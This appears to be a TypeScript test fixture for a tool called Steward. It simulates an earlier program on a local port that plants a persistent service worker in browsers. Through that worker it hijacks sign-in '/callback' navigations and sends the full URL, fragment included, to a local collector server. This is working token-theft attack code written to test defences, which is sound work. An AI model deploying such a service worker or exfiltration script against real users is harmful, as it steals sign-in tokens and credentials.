import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { BrowserContext } from 'playwright'
import { openPage } from './headless-chromium.ts'

/**
 * What its service worker does with a navigation: answers each with its own page; or lets all through except the callback of a
 * sign-in, by not answering (`falls-back`) or by fetching it itself (`fetches`).
 */
export type Habit = 'answers' | 'falls-back' | 'fetches'

export type EarlierProgram = {
  readonly port: number
  /** Addresses with their fragments that its page was opened at, as it reported them. */
  readonly stolen: readonly string[]
  /** Visits it with a browser in which its service worker then stays. */
  infect(context: BrowserContext, host: string): Promise<void>
  /** Frees the port; what it left in browsers goes on. */
  leave(): Promise<void>
  close(): Promise<void>
}

/** A program that had a port of this computer before Steward, and left a service worker in the browsers that visited it. */
export async function startEarlierProgram({
  habit,
  port = 0,
}: {
  habit: Habit
  port?: number
}): Promise<EarlierProgram> {
  const stolen: string[] = []
  const collector = createServer((request, response) => {
    stolen.push(decodeURIComponent((request.url ?? '').slice(2)))
    response.writeHead(204, { 'access-control-allow-origin': '*' }).end()
  })
  const collecting = await listen(collector, '127.0.0.1', 0)
  const page = `<!doctype html><title>stolen</title>
    <script>fetch('http://127.0.0.1:${collecting}/?' + encodeURIComponent(location.href))</script>`
  const worker = `const page = ${JSON.stringify(page)}, habit = ${JSON.stringify(habit)}
    const own = () => new Response(page, { headers: { 'content-type': 'text/html' } })
    addEventListener('install', () => skipWaiting())
    addEventListener('activate', (event) => event.waitUntil(clients.claim()))
    addEventListener('fetch', (event) => {
      const isCallback = new URL(event.request.url).pathname === '/callback'
      if (habit === 'answers' || isCallback) event.respondWith(own())
      else if (habit === 'fetches') event.respondWith(fetch(event.request))
    })`
  const servers: Server[] = []
  const serve = () =>
    createServer((request, response) => {
      const isScript = request.url === '/worker.js'
      const headers = {
        'content-type': isScript ? 'text/javascript' : 'text/html',
        'cache-control': 'max-age=31536000',
      }
      response.writeHead(200, headers).end(isScript ? worker : page)
    })
  const held = { port }
  for (const address of ['127.0.0.1', '::1']) {
    const server = serve()
    servers.push(server)
    held.port = await listen(server, address, held.port)
  }
  const leave = () => Promise.all(servers.splice(0).map(close))
  return {
    port: held.port,
    stolen,
    async infect(context, host) {
      const visiting = await openPage(context)
      await visiting.goto(`http://${host}:${held.port}/`)
      await visiting.evaluate(async () => {
        await navigator.serviceWorker.register('/worker.js', { updateViaCache: 'all' })
        await navigator.serviceWorker.ready
      })
      await visiting.close()
      stolen.length = 0
    },
    async leave() {
      await leave()
    },
    async close() {
      await leave()
      await close(collector)
    },
  }
}

function listen(server: Server, host: string, port: number): Promise<number> {
  return new Promise((resolve, reject) => {
    server.once('error', reject)
    server.listen({ host, port }, () => resolve((server.address() as AddressInfo).port))
  })
}

function close(server: Server): Promise<void> {
  return new Promise((resolve) => {
    server.close(() => resolve())
    server.closeAllConnections()
  })
}
